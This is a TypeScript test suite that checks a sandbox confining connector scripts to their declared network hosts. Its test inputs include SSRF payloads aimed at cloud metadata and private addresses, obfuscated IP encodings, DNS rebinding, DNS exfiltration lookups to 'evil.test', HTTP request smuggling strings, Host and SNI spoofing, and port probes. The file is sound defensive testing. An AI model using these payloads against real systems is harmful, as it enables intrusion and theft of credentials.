/** Konnectors that go where they have not said they would. Each refusal must be in the run's record, with its reason. */
import assert from 'node:assert/strict'
import { createServer } from 'node:net'
import { networkInterfaces } from 'node:os'
import { test } from 'node:test'
import { certificate } from '../help/certificate.ts'
import { type Outcome, openJail } from '../help/jail.ts'
import { startSite } from '../help/sites.ts'

/** What the name server was asked; it knows names of every bad kind. */
const asked: string[] = []
const addresses: Record<string, string[]> = {
  'metadata.test': ['169.254.169.254'],
  'loopback.test': ['127.0.0.1'],
  'private.test': ['10.1.2.3'],
  'mixed.test': ['93.184.216.34', '127.0.0.1'],
  'mapped.test': ['::ffff:127.0.0.1'],
  'nat64.test': ['64:ff9b::7f00:1'],
  'local6.test': ['fd00:ec2::254'],
  'sixtofour.test': ['2002:7f00:1::'],
  'azure.test': ['168.63.129.16'],
  'own.test': Object.values(networkInterfaces())
    .flatMap(list => list ?? [])
    .filter(({ internal }) => !internal)
    .map(({ address }) => address)
    .slice(0, 1),
}
const resolve = async (name: string) => {
  asked.push(name)
  const found = addresses[name]
  if (!found?.length) throw Object.assign(new Error(`queryA ENOTFOUND ${name}`), { code: 'ENOTFOUND' })
  return found
}
const jail = openJail('bubblewrap', { resolve })

const reasons = (result: Outcome) =>
  Object.fromEntries(result.refused.map(({ host, port, reason }) => [`${host}:${port}`, reason]))
const fetches = (urls: string[]) =>
  `(async () => { for (const url of ${JSON.stringify(urls)}) await attemptAsync(url, async () => (await fetch(url, { signal: AbortSignal.timeout(8000) })).text()) })()`

/** Every try failed, and every one is recorded for its reason. */
function assertRefused(result: Outcome, reason: string, count: number): void {
  assert.equal(Object.keys(result.tries).length, count, JSON.stringify(result.tries))
  for (const [name, got] of Object.entries(result.tries)) assert.doesNotMatch(got, /^worked/, `${name}: ${got}`)
  assert.ok(result.refused.length > 0)
  assert.deepEqual([...new Set(result.refused.map(refusal => refusal.reason))], [reason])
  assert.equal(
    result.remarks.filter(text => text.includes(`(${reason})`)).length,
    result.refused.length,
    'each is in the log',
  )
}

test('a konnector that connects to loopback ports of the host reaches its own loopback, and it is recorded', async () => {
  await using site = await startSite()
  const hosts = ['127.0.0.1', 'localhost', '0.0.0.0', '[::1]', '127.8.9.10']
  const result = await jail.run(fetches(hosts.map(host => `http://${host}:${site.port}/`)))
  for (const got of Object.values(result.tries))
    assert.match(got, /ECONNREFUSED|fetch failed|EADDRNOTAVAIL|AggregateError/)
  assert.equal(Object.keys(result.tries).length, hosts.length)
  assert.equal(reasons(result)[`127.0.0.1:${site.port}`], 'private_address')
  assert.equal(site.connections, 0)
})

test('a konnector that undoes the bridge has no network at all', async () => {
  await using site = await startSite()
  const own = addresses['own.test']?.[0] ?? '10.0.0.1'
  const result = await jail.run(`
    const { stdout } = bare(\`
      const net = require('node:net'), dgram = require('node:dgram')
      let left = 0
      const say = (n, t) => { console.log(JSON.stringify({ try: n, got: t })); if (--left === 0) process.exit() }
      for (const [host, port] of [['127.0.0.1', ${site.port}], ['${own}', ${site.port}], ['169.254.169.254', 80], ['10.0.0.1', 80], ['1.1.1.1', 443], ['2606:4700::1111', 443]]) {
        left++; net.connect({ host, port }).on('connect', () => say(host, 'connected')).on('error', e => say(host, e.code))
      }
      left++; const u = dgram.createSocket('udp4'); u.send('x', 53, '1.1.1.1', e => say('udp', e ? e.code : 'sent'))
      left++; require('node:dns').resolve4('example.com', e => say('dns', e ? e.code : 'answered'))
    \`)
    process.stdout.write(stdout)`)
  assert.deepEqual(result.tries, {
    '127.0.0.1': 'ECONNREFUSED',
    [own]: 'ENETUNREACH',
    '169.254.169.254': 'ENETUNREACH',
    '10.0.0.1': 'ENETUNREACH',
    '1.1.1.1': 'ENETUNREACH',
    '2606:4700::1111': 'ENETUNREACH',
    udp: 'ENETUNREACH',
    dns: 'ECONNREFUSED',
  })
  assert.equal(site.connections, 0)
})

test('a konnector that asks for metadata and private addresses, in every spelling, is refused by each', async () => {
  const urls = [
    'http://169.254.169.254/latest/meta-data/',
    'http://10.0.0.1/',
    'https://172.16.0.1/',
    'http://192.168.1.1/',
    'http://100.100.100.200/',
    'http://168.63.129.16/',
    'http://192.0.0.192/',
    'http://[fd00:ec2::254]/',
    'http://[fe80::1]/',
    'http://[::ffff:169.254.169.254]/',
    'http://[64:ff9b::a9fe:a9fe]/',
    'http://2852039166/',
    'http://0xa9fea9fe/',
    'http://0251.0376.0251.0376/',
    'http://224.0.0.1/',
  ]
  for (const domains of ['public' as const, ['vendor.test']]) {
    assertRefused(await jail.run(fetches(urls), { domains }), 'private_address', urls.length)
  }
})

test('a konnector that gives addresses as text to sockets is refused whatever they look like', async () => {
  const hosts = ['127.1', '0x7f.1', '2130706433', '0177.0.0.1', 'vendor.test\0.evil.test', 'a b', 'vendor.test#', '']
  const result = await jail.run(
    `(async () => { for (const host of ${JSON.stringify(hosts.slice(0, -1))}) await attemptAsync(host, () => connect(host, 80)) })()`,
    { domains: 'public' },
  )
  for (const [name, got] of Object.entries(result.tries)) assert.doesNotMatch(got, /^worked/, name)
  assert.ok(result.refused.every(({ reason }) => reason === 'malformed'))
  assert.equal(
    asked.some(name => /127|0x|2130/.test(name)),
    false,
  )
})

test('a konnector that uses addresses instead of declared names is refused, public ones too', async () => {
  assertRefused(
    await jail.run(fetches(['http://93.184.216.34/', 'https://[2606:2800:220:1::1]/']), { domains: ['vendor.test'] }),
    'literal',
    2,
  )
})

test('a konnector that asks for undeclared names: refused, and no query leaves', async () => {
  asked.length = 0
  const result = await jail.run(
    `(async () => {
      const dns = require('node:dns').promises
      await attemptAsync('fetch', () => fetch('http://evil.test/'))
      await attemptAsync('https', () => fetch('https://vendor.test.evil.test/'))
      await attemptAsync('sibling', () => fetch('https://evilvendor.test/'))
      await attemptAsync('below', () => fetch('https://www.vendor.test/'))
      await attemptAsync('lookup', () => dns.lookup('c2VjcmV0.evil.test'))
      await attemptAsync('resolve', () => dns.resolve4('c2VjcmV0.evil.test'))
      await attemptAsync('txt', () => dns.resolveTxt('c2VjcmV0.evil.test'))
      await attemptAsync('server', () => { const r = new dns.Resolver({ timeout: 500, tries: 1 }); r.setServers(['1.1.1.1']); return r.resolveMx('c2VjcmV0.evil.test') })
    })()`,
    { domains: ['vendor.test'] },
  )
  for (const [name, got] of Object.entries(result.tries)) assert.doesNotMatch(got, /^worked/, name)
  assert.equal(Object.keys(result.tries).length, 8)
  assert.deepEqual(asked, [])
  assert.deepEqual(reasons(result), {
    'evil.test:80': 'undeclared',
    'vendor.test.evil.test:443': 'undeclared',
    'evilvendor.test:443': 'undeclared',
    'www.vendor.test:443': 'undeclared',
    'c2VjcmV0.evil.test:0': 'undeclared',
  })
})

test('a konnector whose declared names point inside is refused at each of them', async () => {
  const names = Object.keys(addresses).filter(name => addresses[name]!.length > 0)
  for (const domains of ['public' as const, ['*.test', ...names].slice(1)]) {
    assertRefused(
      await jail.run(fetches(names.map(name => `http://${name}/`)), { domains }),
      'private_address',
      names.length,
    )
  }
})

test('a konnector whose name changes its address between look-up and connection: it is looked up once', async () => {
  let queries = 0
  const rebinding = openJail('bubblewrap', {
    // Which of the answers is dialled is seen in dial.test.ts; here the first is refused, and a second is never asked for.
    resolve: async () => (queries++ === 0 ? ['192.0.2.1'] : ['127.0.0.1']),
  })
  await using site = await startSite()
  const result = await rebinding.run(
    `(async () => { for (let i = 0; i < 3; i++) { await attemptAsync('look' + i, () => require('node:dns').promises.lookup('rebind.test')); await attemptAsync('get' + i, () => fetch('http://rebind.test/')) } })()`,
    { domains: ['rebind.test'] },
  )
  for (const [name, got] of Object.entries(result.tries)) assert.doesNotMatch(got, /^worked/, name)
  assert.equal(queries, 1)
  assert.equal(site.connections, 0)
})

test('a konnector sent elsewhere by a redirect is refused there', async () => {
  await using site = await startSite()
  const to = (url: string) => `http://vendor.test/to?${encodeURIComponent(url)}`
  const urls = [
    to('http://evil.test/'),
    to('http://169.254.169.254/'),
    to(`http://127.0.0.1:${site.port}/inside`),
    to('https://evil.test/'),
  ]
  const result = await jail.run(fetches(urls), {
    domains: ['vendor.test'],
    pinnedHosts: [{ host: 'vendor.test', address: '127.0.0.1', port: site.port }],
  })
  for (const [name, got] of Object.entries(result.tries)) assert.doesNotMatch(got, /^worked/, name)
  assert.deepEqual(reasons(result), {
    'evil.test:80': 'undeclared',
    '169.254.169.254:80': 'private_address',
    [`127.0.0.1:${site.port}`]: 'private_address',
    'evil.test:443': 'undeclared',
  })
  assert.deepEqual([...new Set(site.seen.map(seen => seen.slice(0, 15)))], ['vendor.test/to?'])
})

test('a konnector that names another server in its TLS handshake is refused: on a shared host that would be another site', async () => {
  await using site = await startSite({ secure: true })
  const result = await jail.run(
    `(async () => {
      const tls = require('node:tls'), ca = fs.readFileSync('/konnector/ca.pem')
      const shake = servername => new Promise((resolve, reject) => { const s = tls.connect({ host: 'vendor.test', port: 443, servername, ca, checkServerIdentity: () => undefined }, () => { s.destroy(); resolve('shaken') }); s.on('error', reject) })
      await attemptAsync('right', () => shake('vendor.test'))
      await attemptAsync('other', () => shake('other.test'))
      await attemptAsync('none', () => shake(''))
      await attemptAsync('undeclared', () => fetch('https://other.test/'))
      await attemptAsync('plain', () => new Promise((resolve, reject) => { const s = net.connect(443, 'vendor.test', () => s.write('GET / HTTP/1.1\\r\\nHost: vendor.test\\r\\n\\r\\n')); s.on('data', resolve); s.on('error', reject); s.on('close', () => reject(new Error('closed'))) }))
    })()`,
    {
      domains: ['vendor.test'],
      pinnedHosts: [{ host: 'vendor.test', address: '127.0.0.1', port: site.port }],
      files: { 'ca.pem': certificate },
    },
  )
  const { right, ...wrong } = result.tries
  assert.equal(right, 'worked: shaken')
  for (const [name, got] of Object.entries(wrong)) assert.doesNotMatch(got, /^worked/, name)
  assert.deepEqual(result.refused.map(({ host, port, reason, count }) => `${host}:${port} ${reason} ${count}`).sort(), [
    'other.test:443 undeclared 1',
    'vendor.test:443 not_tls 1',
    'vendor.test:443 server_name 2',
  ])
})

test('a konnector that names another site in its Host header is refused, in every way to say it', async () => {
  await using site = await startSite()
  const requests = [
    'GET / HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n',
    'GET / HTTP/1.1\\r\\nHost: vendor.test\\r\\nHost: other.test\\r\\n\\r\\n',
    'GET http://other.test/ HTTP/1.1\\r\\nHost: vendor.test\\r\\n\\r\\n',
    'GET http://vendor.test@other.test/ HTTP/1.1\\r\\nHost: vendor.test\\r\\n\\r\\n',
    'GET / HTTP/1.0\\r\\n\\r\\n',
    'GET / HTTP/1.1\\r\\nHost: vendor.test:8080\\r\\n\\r\\n',
    'CONNECT other.test:443 HTTP/1.1\\r\\nHost: vendor.test\\r\\n\\r\\n',
    'POST / HTTP/1.1\\r\\nHost: vendor.test\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n',
    'GET / HTTP/1.1\\nHost: vendor.test\\nX: a\\rHost: other.test\\r\\n\\r\\n',
    'GET /first HTTP/1.1\\r\\nHost: vendor.test\\r\\n\\r\\nGET /second HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n',
    '\\x00\\x01\\x02 nothing like it',
  ]
  const result = await jail.run(
    `(async () => {
      const speak = text => new Promise((resolve, reject) => { let got = ''; const s = net.connect(80, 'vendor.test', () => s.write(text, 'latin1')); s.setEncoding('latin1'); s.on('data', d => { got += d }); s.on('error', reject); s.on('close', () => resolve(got)); setTimeout(() => s.destroy(), 400) })
      for (const [i, text] of [${requests.map(text => `'${text}'`).join()}].entries()) await attemptAsync(i, () => speak(text))
    })()`,
    { domains: ['vendor.test'], pinnedHosts: [{ host: 'vendor.test', address: '127.0.0.1', port: site.port }] },
  )
  assert.equal(Object.keys(result.tries).length, requests.length)
  assert.deepEqual(site.seen, ['vendor.test/first'], 'nothing but the one good request has reached the site')
  const counted = Object.fromEntries(result.refused.map(({ reason, count }) => [reason, count]))
  assert.ok((counted.host_header ?? 0) >= 6 && (counted.not_http ?? 0) >= 3, JSON.stringify(counted))
})

test('a konnector that uses ports of other services is refused', async () => {
  const ports = [21, 22, 25, 53, 110, 465, 587, 993, 3306, 5432, 6379, 8080, 11211]
  const result = await jail.run(
    `(async () => { for (const port of ${JSON.stringify(ports)}) await attemptAsync(port, () => connect('vendor.test', port)) })()`,
    { domains: ['vendor.test'] },
  )
  assertRefused(result, 'port', ports.length)
  for (const got of Object.values(result.tries)) assert.equal(got, 'EACCES')
})

test('a konnector that tries the neighbours of the stack: other ports, other names', async () => {
  await using site = await startSite()
  const result = await jail.run(
    `(async () => {
      await attemptAsync('stack', async () => (await fetch('http://alice.test:${site.port}/')).status)
      await attemptAsync('administration', () => connect('alice.test', ${site.port + 1}))
      await attemptAsync('database', () => connect('alice.test', 5432))
      await attemptAsync('other instance', () => fetch('http://bob.test:${site.port}/'))
    })()`,
    {
      domains: ['vendor.test'],
      stack: { host: 'alice.test', port: site.port, connect: { host: '127.0.0.1', port: site.port } },
    },
  )
  const { stack, ...others } = result.tries
  assert.equal(stack, 'worked: 200')
  assert.deepEqual(others, { administration: 'EACCES', database: 'EACCES', 'other instance': 'EACCES' })
  assert.equal(result.refused.length, 3)
})

test('a konnector that speaks nonsense to the gate gets nothing, and the gate goes on', async () => {
  await using site = await startSite()
  const result = await jail.run(
    `(async () => {
      const gate = '/run/konnector/egress.sock'
      const tell = bytes => new Promise(resolve => { let got = ''; const s = net.connect({ path: gate }, () => { s.write(bytes); setTimeout(() => s.destroy(), 300) }); s.on('data', d => { got += d }); s.on('error', () => {}); s.on('close', () => resolve(got)) })
      const all = ['OPEN\\n', 'OPEN x\\n', 'OPEN :80\\n', 'OPEN vendor.test:99999\\n', 'OPEN vendor.test:-1\\n', 'TAKE 00\\n', 'TAKE ' + 'a'.repeat(24) + '\\n', 'LOOKUP \\n', 'CONNECT 127.0.0.1:${site.port} HTTP/1.1\\r\\n\\r\\n', 'GET http://127.0.0.1:${site.port}/ HTTP/1.1\\r\\n\\r\\n', 'TUNNEL 127.0.0.1:${site.port}\\n', 'OPEN 127.0.0.1:${site.port}\\n', '\\0\\0\\0\\n', 'x'.repeat(100000), 'OPEN ' + 'y'.repeat(550) + ':80\\n', 'OPEN __proto__:80\\n', 'LOOKUP constructor\\n']
      const answers = await Promise.all(all.map(tell))
      report('answers', answers.map(a => a.slice(0, 2)).filter(a => a && a !== 'NO').length)
      for (let i = 0; i < 200; i++) { const s = net.connect({ path: gate }); s.on('error', () => {}); s.on('connect', () => s.destroy()) }
      await new Promise(r => setTimeout(r, 200))
      await attemptAsync('after', async () => (await fetch('http://vendor.test/')).status)
    })()`,
    { domains: ['vendor.test'], pinnedHosts: [{ host: 'vendor.test', address: '127.0.0.1', port: site.port }] },
  )
  assert.deepEqual(result.tries, { answers: '0', after: 'worked: 200' })
  assert.deepEqual(site.seen, ['vendor.test/'])
})

test('a konnector that opens connections without end, or sends more than it may, is held to its share', async () => {
  await using site = await startSite()
  const result = await jail.run(
    `(async () => {
      const sockets = []
      for (let i = 0; i < 30; i++) await attemptAsync('c' + i, () => new Promise((resolve, reject) => { const s = net.connect(80, 'vendor.test', () => resolve('connected')); s.on('error', reject); sockets.push(s) }))
      for (const s of sockets) s.destroy()
      await new Promise(r => setTimeout(r, 100))
      await attemptAsync('upload', async () => (await fetch('http://vendor.test/', { method: 'POST', body: 'x'.repeat(3e6) })).text())
    })()`,
    {
      domains: ['vendor.test'],
      pinnedHosts: [{ host: 'vendor.test', address: '127.0.0.1', port: site.port }],
      gateLimits: { connections: 10, bytesUp: 1e6 },
    },
  )
  const connected = Object.values(result.tries).filter(got => got === 'worked: connected').length
  assert.ok(connected <= 10, `${connected} connections`)
  assert.doesNotMatch(result.tries.upload!, /worked/)
  assert.deepEqual(result.refused.map(({ reason }) => reason).sort(), ['connections', 'quota'])
})

test('a konnector without any declared name has the stack alone; a million names fill no record', async () => {
  const result = await jail.run(
    `(async () => {
      const ask = name => new Promise(resolve => require('node:dns').lookup(name, e => resolve(e && e.code)))
      for (let i = 0; i < 600; i += 50) await Promise.all(Array.from({ length: 50 }, (_, j) => ask('n' + (i + j) + '.evil.test')))
      report('done', 'yes')
    })()`,
    { domains: [] },
  )
  assert.equal(result.tries.done, 'yes')
  assert.ok(result.refused.length <= 201)
  assert.equal(
    result.refused.reduce((sum, { count }) => sum + count, 0),
    600,
  )
  assert.ok(result.remarks.length <= 201)
})

test('a konnector that listens waits in vain: nobody outside can reach it', async () => {
  let reached = false
  const result = await jail.run(
    `const s = net.createServer(c => { report('reached', 'yes'); c.end() }).listen(48123, '0.0.0.0', () => { report('listens', 'yes'); setTimeout(() => process.exit(), 500) })`,
    {
      onLine: () => {
        const client = createServer().listen(0)
        client.close()
        fetch('http://127.0.0.1:48123/').then(
          () => {
            reached = true
          },
          () => {},
        )
      },
    },
  )
  assert.deepEqual(result.tries, { listens: 'yes' })
  assert.equal(reached, false)
})
